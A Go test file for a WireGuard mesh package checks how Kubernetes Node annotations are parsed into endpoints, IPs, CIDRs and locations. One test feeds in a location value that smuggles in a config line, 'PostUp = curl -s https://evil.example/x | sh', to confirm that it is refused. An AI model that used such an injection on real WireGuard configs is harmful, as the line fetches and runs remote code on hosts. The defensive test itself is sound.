package convert

import (
	"errors"
	"net/netip"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.zx2c4.com/wireguard/wgctrl/wgtypes"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"meshd.io/meshd/pkg/mesh"
)

func testKey(t testing.TB, b byte) wgtypes.Key {
	t.Helper()
	var k wgtypes.Key
	for i := range k {
		k[i] = b
	}
	return k
}

func addrs(ss ...string) []netip.Addr {
	var out []netip.Addr
	for _, s := range ss {
		out = append(out, netip.MustParseAddr(s))
	}
	return out
}

func prefixes(ss ...string) []netip.Prefix {
	var out []netip.Prefix
	for _, s := range ss {
		out = append(out, netip.MustParsePrefix(s))
	}
	return out
}

func ipEP(s string) mesh.Endpoint { return mesh.Endpoint{Addr: netip.MustParseAddrPort(s)} }

func dnsEP(host string, port uint16) mesh.Endpoint {
	return mesh.Endpoint{Host: host, Addr: netip.AddrPortFrom(netip.Addr{}, port)}
}

type nodeOpt func(*corev1.Node)

func ann(k, v string) nodeOpt {
	return func(n *corev1.Node) {
		if n.Annotations == nil {
			n.Annotations = map[string]string{}
		}
		n.Annotations[k] = v
	}
}

func label(k, v string) nodeOpt {
	return func(n *corev1.Node) {
		if n.Labels == nil {
			n.Labels = map[string]string{}
		}
		n.Labels[k] = v
	}
}

func address(t corev1.NodeAddressType, a string) nodeOpt {
	return func(n *corev1.Node) {
		n.Status.Addresses = append(n.Status.Addresses, corev1.NodeAddress{Type: t, Address: a})
	}
}

func podCIDRs(cs ...string) nodeOpt { return func(n *corev1.Node) { n.Spec.PodCIDRs = cs } }

func node(opts ...nodeOpt) *corev1.Node {
	n := &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "n1"}}
	for _, o := range opts {
		o(n)
	}
	return n
}

func TestNodeFromObject(t *testing.T) {
	k1, k2, k3 := testKey(t, 1), testKey(t, 2), testKey(t, 3)
	opts := ParseOptions{Port: 51820}
	tests := []struct {
		name string
		node *corev1.Node
		opts ParseOptions
		want mesh.Node
		// badAnnotations are the annotations (or fields) expected to be
		// reported, in order.
		badAnnotations []string
	}{{
		name: "no annotations at all",
		node: node(),
		want: mesh.Node{Name: "n1"},
	}, {
		name: "internal IP only gives endpoint with default port",
		node: node(address(corev1.NodeInternalIP, "10.0.0.1"), address(corev1.NodeHostName, "n1")),
		opts: ParseOptions{},
		want: mesh.Node{Name: "n1", InternalIPs: addrs("10.0.0.1"), Endpoint: ipEP("10.0.0.1:51820")},
	}, {
		name: "partial: key, location label and pod CIDR only",
		node: node(ann(AnnotationPublicKey, k1.String()), label(DefaultTopologyLabel, "eu"), func(n *corev1.Node) { n.Spec.PodCIDR = "10.244.1.0/24" }),
		opts: opts,
		want: mesh.Node{Name: "n1", Location: "eu", PublicKey: k1, PodCIDRs: prefixes("10.244.1.0/24")},
	}, {
		name: "custom topology label and location annotation precedence",
		node: node(label("zone", "z1"), label(DefaultTopologyLabel, "eu")),
		opts: ParseOptions{TopologyLabel: "zone"},
		want: mesh.Node{Name: "n1", Location: "z1"},
	}, {
		name: "location annotation beats label",
		node: node(label(DefaultTopologyLabel, "eu"), ann(AnnotationLocation, "office")),
		want: mesh.Node{Name: "n1", Location: "office"},
	}, {
		name: "everything set, dual stack",
		node: node(
			ann(AnnotationPublicKey, k1.String()),
			ann(AnnotationLeader, "true"),
			ann(AnnotationPersistentKeepalive, "25"),
			ann(AnnotationAllowedLocationIPs, "192.168.10.0/24, fd10::/64,"),
			ann(AnnotationWireGuardIP, "fd77::3,10.77.0.3"),
			ann(AnnotationDiscoveredEndpoints, `{"`+k2.String()+`":"203.0.113.9:4000","`+k3.String()+`":"[2001:db8::9]:51820"}`),
			ann(AnnotationEndpoint, "10.0.0.1:51999"),
			address(corev1.NodeInternalIP, "fd00::1"),
			address(corev1.NodeInternalIP, "10.0.0.1"),
			address(corev1.NodeInternalIP, "10.0.0.2"), // second IPv4: ignored
			podCIDRs("10.244.1.0/24", "fd44:0:0:1::/64"),
		),
		opts: opts,
		want: mesh.Node{
			Name: "n1", PreferLeader: true, PublicKey: k1,
			Endpoint:            ipEP("10.0.0.1:51999"),
			InternalIPs:         addrs("10.0.0.1", "fd00::1"),
			WireGuardIPs:        addrs("10.77.0.3", "fd77::3"),
			PodCIDRs:            prefixes("10.244.1.0/24", "fd44:0:0:1::/64"),
			AllowedLocationIPs:  prefixes("192.168.10.0/24", "fd10::/64"),
			PersistentKeepalive: 25 * time.Second,
			DiscoveredEndpoints: map[wgtypes.Key]netip.AddrPort{
				k2: netip.MustParseAddrPort("203.0.113.9:4000"),
				k3: netip.MustParseAddrPort("[2001:db8::9]:51820"),
			},
		},
	}, {
		name: "IPv6-only node endpoint from its internal IP",
		node: node(address(corev1.NodeInternalIP, "fd00::1")),
		opts: opts,
		want: mesh.Node{Name: "n1", InternalIPs: addrs("fd00::1"), Endpoint: ipEP("[fd00::1]:51820")},
	}, {
		name: "force-internal-ip beats status and published, accepts CIDRs",
		node: node(
			ann(AnnotationForceInternalIP, "192.168.0.5/24,fd00::5"),
			ann(AnnotationInternalIP, "10.9.9.9"),
			address(corev1.NodeInternalIP, "10.0.0.1"),
		),
		opts: opts,
		want: mesh.Node{Name: "n1", InternalIPs: addrs("192.168.0.5", "fd00::5"), Endpoint: ipEP("192.168.0.5:51820")},
	}, {
		name: "published internal-ip used when status has none",
		node: node(ann(AnnotationInternalIP, "10.9.9.9,fd00::9")),
		opts: opts,
		want: mesh.Node{Name: "n1", InternalIPs: addrs("10.9.9.9", "fd00::9"), Endpoint: ipEP("10.9.9.9:51820")},
	}, {
		name: "ExternalIP beats published endpoint but keeps its port",
		node: node(
			ann(AnnotationEndpoint, "10.0.0.1:4444"),
			address(corev1.NodeInternalIP, "10.0.0.1"),
			address(corev1.NodeExternalIP, "2001:db8::1"),
			address(corev1.NodeExternalIP, "203.0.113.1"),
		),
		opts: opts,
		want: mesh.Node{Name: "n1", InternalIPs: addrs("10.0.0.1"), Endpoint: ipEP("[2001:db8::1]:4444"), PublicEndpoint: true},
	}, {
		name: "ExternalIP without published endpoint uses the option port",
		node: node(address(corev1.NodeExternalIP, "203.0.113.1")),
		opts: ParseOptions{Port: 6000},
		want: mesh.Node{Name: "n1", Endpoint: ipEP("203.0.113.1:6000"), PublicEndpoint: true},
	}, {
		name: "force-endpoint beats ExternalIP and published",
		node: node(
			ann(AnnotationForceEndpoint, "198.51.100.7:7000"),
			ann(AnnotationEndpoint, "10.0.0.1:4444"),
			address(corev1.NodeExternalIP, "203.0.113.1"),
		),
		opts: opts,
		want: mesh.Node{Name: "n1", Endpoint: ipEP("198.51.100.7:7000"), PublicEndpoint: true},
	}, {
		name: "force-endpoint IPv6 with port",
		node: node(ann(AnnotationForceEndpoint, "[2001:db8::7]:7000")),
		opts: opts,
		want: mesh.Node{Name: "n1", Endpoint: ipEP("[2001:db8::7]:7000"), PublicEndpoint: true},
	}, {
		name: "force-endpoint bare IPv6 gets default port",
		node: node(ann(AnnotationForceEndpoint, "2001:db8::7")),
		opts: opts,
		want: mesh.Node{Name: "n1", Endpoint: ipEP("[2001:db8::7]:51820"), PublicEndpoint: true},
	}, {
		name: "force-endpoint DNS name keeps host, port in Addr",
		node: node(ann(AnnotationForceEndpoint, "VPN.Example.com:5555"), address(corev1.NodeInternalIP, "10.0.0.1")),
		opts: opts,
		want: mesh.Node{Name: "n1", Endpoint: dnsEP("vpn.example.com", 5555), PublicEndpoint: true, InternalIPs: addrs("10.0.0.1")},
	}, {
		name: "force-endpoint DNS name alone gets default port",
		node: node(ann(AnnotationForceEndpoint, "gw.example.com")),
		opts: ParseOptions{Port: 6000},
		want: mesh.Node{Name: "n1", Endpoint: dnsEP("gw.example.com", 6000), PublicEndpoint: true},
	}, {
		name:           "malformed force-endpoint falls back to ExternalIP",
		node:           node(ann(AnnotationForceEndpoint, "bad_host!:1"), address(corev1.NodeExternalIP, "203.0.113.1")),
		opts:           opts,
		want:           mesh.Node{Name: "n1", Endpoint: ipEP("203.0.113.1:51820"), PublicEndpoint: true},
		badAnnotations: []string{AnnotationForceEndpoint},
	}, {
		name: "every annotation malformed: all reported, node still usable",
		node: node(
			label(DefaultTopologyLabel, "eu"),
			address(corev1.NodeInternalIP, "10.0.0.1"),
			podCIDRs("10.244.1.0/24"),
			ann(AnnotationLeader, "yes please"),
			ann(AnnotationPublicKey, "not-a-key"),
			ann(AnnotationForceInternalIP, "10.0.0.300"),
			ann(AnnotationEndpoint, "10.0.0.1"),
			ann(AnnotationForceEndpoint, "10.0.0.1:99999"),
			ann(AnnotationAllowedLocationIPs, "10.0.0.0/33"),
			ann(AnnotationPersistentKeepalive, "-5"),
			ann(AnnotationWireGuardIP, "10.77.0.1,10.77.0.2"),
			ann(AnnotationDiscoveredEndpoints, `{"x":`),
		),
		opts: opts,
		want: mesh.Node{Name: "n1", Location: "eu", InternalIPs: addrs("10.0.0.1"), Endpoint: ipEP("10.0.0.1:51820"), PodCIDRs: prefixes("10.244.1.0/24")},
		badAnnotations: []string{
			AnnotationLeader, AnnotationPublicKey, AnnotationForceInternalIP, AnnotationEndpoint,
			AnnotationForceEndpoint, AnnotationAllowedLocationIPs, AnnotationPersistentKeepalive,
			AnnotationWireGuardIP, AnnotationDiscoveredEndpoints,
		},
	}, {
		name: "malformed published internal-ip and discovered entries",
		node: node(
			ann(AnnotationInternalIP, "fe80::1%eth0"),
			ann(AnnotationDiscoveredEndpoints, `{"`+k2.String()+`":"nowhere"}`),
			ann(AnnotationInternalIP+"-unrelated", "x"),
		),
		opts:           opts,
		want:           mesh.Node{Name: "n1"},
		badAnnotations: []string{AnnotationInternalIP, AnnotationDiscoveredEndpoints},
	}, {
		// Every malformed annotation is reported, also one that a higher
		// precedence source (here the status InternalIP) makes unused.
		name: "malformed published internal-ip reported though status wins",
		node: node(
			ann(AnnotationInternalIP, "not-an-ip"),
			address(corev1.NodeInternalIP, "10.0.0.1"),
		),
		opts:           opts,
		want:           mesh.Node{Name: "n1", InternalIPs: addrs("10.0.0.1"), Endpoint: ipEP("10.0.0.1:51820")},
		badAnnotations: []string{AnnotationInternalIP},
	}, {
		name:           "malformed pod CIDRs",
		node:           node(podCIDRs("10.244.1.0/24", "garbage")),
		opts:           opts,
		want:           mesh.Node{Name: "n1"},
		badAnnotations: []string{"spec.podCIDRs"},
	}, {
		name: "pod CIDR host bits masked, leader false",
		node: node(podCIDRs("10.244.1.7/24"), ann(AnnotationLeader, "false")),
		opts: opts,
		want: mesh.Node{Name: "n1", PodCIDRs: prefixes("10.244.1.0/24")},
	}, {
		name: "a location with spaces and non-ASCII letters is taken",
		node: node(ann(AnnotationLocation, "Zürich office 2"), label(DefaultTopologyLabel, "eu")),
		want: mesh.Node{Name: "n1", Location: "Zürich office 2"},
	}, {
		// It would forge lines in the WireGuard configs meshctl prints
		// (as a comment), in Events and in logs: reported, the label used.
		name:           "a location with a line break is refused",
		node:           node(ann(AnnotationLocation, "us\nPostUp = curl -s https://evil.example/x | sh"), label(DefaultTopologyLabel, "eu")),
		want:           mesh.Node{Name: "n1", Location: "eu"},
		badAnnotations: []string{AnnotationLocation},
	}, {
		name:           "a location with a control character is refused",
		node:           node(ann(AnnotationLocation, "us\x1b[2J")),
		want:           mesh.Node{Name: "n1"},
		badAnnotations: []string{AnnotationLocation},
	}, {
		// A Peer's status records its leaders' locations, at most 253
		// characters each: a longer one would make every status write of
		// that location's leader fail.
		name:           "a location longer than 253 characters is refused",
		node:           node(ann(AnnotationLocation, strings.Repeat("l", 254))),
		want:           mesh.Node{Name: "n1"},
		badAnnotations: []string{AnnotationLocation},
	}, {
		name: "a location of 253 characters is taken",
		node: node(ann(AnnotationLocation, strings.Repeat("l", 253))),
		want: mesh.Node{Name: "n1", Location: strings.Repeat("l", 253)},
	}, {
		name: "empty-valued annotations are absent",
		node: node(ann(AnnotationPublicKey, ""), ann(AnnotationLocation, "  "), label(DefaultTopologyLabel, "eu")),
		opts: opts,
		want: mesh.Node{Name: "n1", Location: "eu"},
	}}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, errs := NodeFromObject(tt.node, tt.opts)
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("NodeFromObject:\n got %+v\nwant %+v", got, tt.want)
			}
			var gotBad []string
			for _, err := range errs {
				var ae *AnnotationError
				if !errors.As(err, &ae) {
					t.Errorf("error %v is not an *AnnotationError", err)
					continue
				}
				if !strings.Contains(err.Error(), ae.Annotation) || !strings.Contains(err.Error(), strconv.Quote(ae.Value)) {
					t.Errorf("error %q does not name the annotation %q and its value %q", err, ae.Annotation, ae.Value)
				}
				gotBad = append(gotBad, ae.Annotation)
			}
			if !reflect.DeepEqual(gotBad, tt.badAnnotations) {
				t.Errorf("reported %v, want %v (errors: %v)", gotBad, tt.badAnnotations, errs)
			}
		})
	}
}

func TestNodeFromObjectNil(t *testing.T) {
	got, errs := NodeFromObject(nil, ParseOptions{})
	if !reflect.DeepEqual(got, mesh.Node{}) || len(errs) != 1 {
		t.Fatalf("NodeFromObject(nil) = %+v, %v", got, errs)
	}
}

func TestParseEndpoint(t *testing.T) {
	tests := []struct {
		in      string
		want    mesh.Endpoint
		wantErr bool
	}{
		{in: "1.2.3.4:5", want: ipEP("1.2.3.4:5")},
		{in: "1.2.3.4", want: ipEP("1.2.3.4:51820")},
		{in: "[::1]:5", want: ipEP("[::1]:5")},
		{in: "[::1]", want: ipEP("[::1]:51820")},
		{in: "::ffff:1.2.3.4", want: ipEP("1.2.3.4:51820")},
		{in: "example.com.", want: dnsEP("example.com", 51820)},
		{in: "a.b:1", want: dnsEP("a.b", 1)},
		{in: "", wantErr: true},
		{in: "a.b:0", wantErr: true},
		{in: "a.b:65536", wantErr: true},
		{in: "a.b:x", wantErr: true},
		{in: ":5", wantErr: true},
		{in: "under_score.com", wantErr: true},
		{in: "fe80::1%eth0", wantErr: true},
		{in: "[::1]:5:6", wantErr: true},
	}
	for _, tt := range tests {
		got, err := ParseEndpoint(tt.in, 51820)
		if (err != nil) != tt.wantErr || (err == nil && got != tt.want) {
			t.Errorf("ParseEndpoint(%q) = %+v, %v; want %+v, error %v", tt.in, got, err, tt.want, tt.wantErr)
		}
	}
}
